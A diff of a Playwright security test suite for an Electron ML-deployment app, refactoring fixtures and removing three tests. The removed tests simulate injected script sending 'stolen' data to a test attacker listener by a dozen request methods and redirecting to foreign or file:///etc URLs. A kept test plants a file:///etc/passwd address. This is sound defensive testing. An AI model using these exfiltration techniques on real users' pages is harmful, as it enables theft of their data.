@@ -1,44 +1,8 @@
 // Each test is an attack on the person behind the app, with script already running in its page where that is the worst case.
-import { readFileSync } from 'node:fs';
-import { join } from 'node:path';
-import type { ElectronApplication, Page } from '@playwright/test';
 import type {} from '../../renderer/bridge.ts';
-import type { PipelineStep } from '../demo/mlflow/pipeline.ts';
-import { type Attacker, startAttacker } from './attacker.ts';
+import { refusedByPolicy, test, waitForModels } from './attacked-app.ts';
 import { openDeployment } from './deploy-steps.ts';
-import { test as base, type Computer, expect, signedIn } from './fixtures.ts';
-
-const asked: string[] = [];
-const noteRequest: PipelineStep = (exchange, next) => {
-  asked.push(exchange.path);
-  return next(exchange);
-};
-
-const test = base.extend<{ attacker: Attacker }>({
-  // biome-ignore lint/correctness/noEmptyPattern: Playwright reads the fixtures a function needs from this pattern
-  attacker: async ({}, use) => {
-    const attacker = await startAttacker();
-    await use(attacker);
-    // A listener that hears nothing at all would prove nothing.
-    await fetch(`${attacker.url}/of-the-test`);
-    expect(attacker.heard).toEqual(['GET /of-the-test HTTP/1.1']);
-    await attacker.close();
-  },
-});
-
-test.use({ hubOptions: { faultSteps: [noteRequest] } });
-test.beforeEach(() => {
-  asked.length = 0;
-});
-
-const refusedByPolicy = /content security policy/i;
-const logOf = (computer: Computer): string => readFileSync(join(computer.userData, 'logs/main.log'), 'utf8');
-const addressOf = (app: ElectronApplication): Promise<string | undefined> =>
-  app.evaluate(({ BrowserWindow }) => BrowserWindow.getAllWindows()[0]?.webContents.getURL());
-
-async function openModels(page: Page): Promise<void> {
-  await expect(page.getByRole('link', { name: 'card-fraud-xgb', exact: true })).toBeVisible();
-}
+import { expect, signedIn } from './fixtures.ts';
 
 /** Attack: markup from a server runs as script, or loads something. The policy of the page leaves no way, unless it is weakened. */
 test('the page comes with a strict policy', async ({ hub, computer }) => {
@@ -72,7 +36,7 @@ test('injected script does not run', async ({ hub, computer }) => {
   computer.expectFaults(refusedByPolicy);
   computer.expectFaults(/Failed to load resource/);
   const { page } = await computer.launch(signedIn(hub));
-  await openModels(page);
+  await waitForModels(page);
   const evaluated = await page.evaluate(
     () =>
       new Promise<string>((resolve) => {
@@ -101,122 +65,10 @@ test('injected script does not run', async ({ hub, computer }) => {
   expect(await page.evaluate(() => Reflect.get(window, 'attacked') ?? 'not attacked')).toBe('not attacked');
 });
 
-/** Attack: script in the page sends what it sees away, by every kind of request, to a stranger or to the person's own hub. */
-test('no request leaves the page', async ({ hub, computer, attacker }) => {
-  computer.expectFaults(refusedByPolicy);
-  const { page } = await computer.launch(signedIn(hub));
-  await openModels(page);
-  for (const target of [attacker.url, hub.url, hub.mlflow.main.url]) {
-    const refused = await page.evaluate(async (address) => {
-      const url = `${address}/stolen`;
-      const wanted = 12;
-      const refusals: string[] = [];
-      const all = new Promise<void>((resolve) => {
-        document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => {
-          refusals.push(effectiveDirective);
-          if (refusals.length === wanted) resolve();
-        });
-      });
-      const add = (tag: string, attributes: Record<string, string>): void => {
-        const element = document.createElement(tag);
-        for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value);
-        document.body.append(element);
-      };
-      fetch(url).catch(() => undefined);
-      fetch(url, { method: 'POST', mode: 'no-cors', body: 'stolen', keepalive: true }).catch(() => undefined);
-      const request = new XMLHttpRequest();
-      request.open('POST', url);
-      request.send('stolen');
-      new WebSocket(url.replace('http', 'ws'));
-      new EventSource(url);
-      navigator.sendBeacon(url, 'stolen');
-      add('img', { src: `${url}.png` });
-      add('iframe', { src: url });
-      add('script', { src: `${url}.js` });
-      add('link', { rel: 'stylesheet', href: `${url}.css` });
-      add('video', { src: `${url}.mp4` });
-      add('object', { data: url });
-      await all;
-      return refusals.sort();
-    }, target);
-    expect(refused).toEqual([
-      ...Array(6).fill('connect-src'),
-      'frame-src',
-      'img-src',
-      'media-src',
-      'object-src',
-      'script-src-elem',
-      'style-src-elem',
-    ]);
-  }
-  expect(attacker.heard).toEqual([]);
-  expect(asked.filter((path) => path.includes('stolen'))).toEqual([]);
-  expect(hub.mlflow.main.requests.filter(({ path }) => path.includes('stolen'))).toEqual([]);
-});
-
-/** Attack: the policy is missing or got round, as in a window without it. The session refuses below it. */
-test('a window without the policy loads nothing either', async ({ hub, computer, attacker }) => {
-  const { app, page } = await computer.launch(signedIn(hub));
-  await openModels(page);
-  const loads = await app.evaluate(async ({ BrowserWindow }, url) => {
-    const window = new BrowserWindow({ show: false });
-    const results: string[] = [];
-    for (const address of [url, `${url}/page.html`]) {
-      results.push(
-        await window.loadURL(address).then(
-          () => 'loaded',
-          (error: { code: string }) => error.code,
-        ),
-      );
-    }
-    window.destroy();
-    return results;
-  }, attacker.url);
-  expect(loads).toEqual(['ERR_BLOCKED_BY_CLIENT', 'ERR_BLOCKED_BY_CLIENT']);
-  expect(attacker.heard).toEqual([]);
-});
-
-/** Attack: the window is moved to a foreign page, or a second one is opened, so that it stands beside the bridge. */
-test('the window stays where it is and opens no other', async ({ hub, computer, attacker }) => {
-  const running = await computer.launch(signedIn(hub));
-  const { app, page } = running;
-  await openModels(page);
-  const before = await addressOf(app);
-  const opened = await page.evaluate((url) => {
-    const opener = window.open(`${url}/opened`);
-    const link = document.createElement('a');
-    link.href = `${url}/blank`;
-    link.target = '_blank';
-    document.body.append(link);
-    link.click();
-    return opener === null;
-  }, attacker.url);
-  expect(opened).toBe(true);
-  await expect.poll(() => logOf(computer).match(/window refused/g)).toHaveLength(2);
-  for (const address of [`${attacker.url}/moved`, 'mailto:x@example.com']) {
-    await page
-      .evaluate((url) => {
-        location.href = url;
-      }, address)
-      .catch(() => undefined);
-    await expect.poll(() => logOf(computer)).toContain(`navigation refused {"url":"${address}`);
-  }
-  // Chromium lets no page go to a file, and says so in the console instead of asking main.
-  computer.expectFaults(/Not allowed to load local resource/);
-  await page.evaluate(() => {
-    location.href = 'file:///etc/hostname';
-  });
-  await openModels(page);
-  expect(await addressOf(app)).toBe(before);
-  expect(app.windows()).toHaveLength(1);
-  expect(await computer.openedLinks(running)).toEqual([]);
-  expect(attacker.heard).toEqual([]);
-});
-
 /** Attack: script in the page watches or follows the person through the rights of a web page. */
 test('every permission is denied', async ({ hub, computer }) => {
   const { page } = await computer.launch(signedIn(hub));
-  await openModels(page);
+  await waitForModels(page);
   const answers = await page.evaluate(async () => {
     const named = [
       'geolocation',
@@ -258,7 +110,7 @@ test('every permission is denied', async ({ hub, computer }) => {
 /** Attack: script in the page reaches Node or Electron, or puts a bridge of its own in the place of the app's. */
 test('the page has nothing but a frozen bridge', async ({ hub, computer }) => {
   const { page } = await computer.launch(signedIn(hub));
-  await openModels(page);
+  await waitForModels(page);
   const seen = await page.evaluate(() => {
     const original = window.bridge;
     const attempt = (change: () => void): void => {
@@ -287,7 +139,7 @@ test('the page has nothing but a frozen bridge', async ({ hub, computer }) => {
 /** Attack: script in the page asks the main process for what the contract does not offer, or smuggles something along. */
 test('a request that is not in the contract is refused', async ({ hub, computer }) => {
   const { page } = await computer.launch(signedIn(hub));
-  await openModels(page);
+  await waitForModels(page);
   const answers = await page.evaluate(async () => {
     const ask = async (name: string, input: unknown): Promise<string> => {
       try {
@@ -369,7 +221,7 @@ test('an MLflow address that is no web address is not opened', async ({ hub, com
   hub.cluster.setGroupAttribute('fraud-detection', 'mlflow-ui-url', 'file:///etc/passwd');
   const running = await computer.launch(signedIn(hub));
   const { page } = running;
-  await openModels(page);
+  await waitForModels(page);
   await expect(page.getByRole('button', { name: 'MLflow UI' })).toHaveAttribute('aria-disabled', 'true');
   const answer = await page.evaluate(async () => {
     const list = await window.bridge.request('connections.list', {}, crypto.randomUUID());
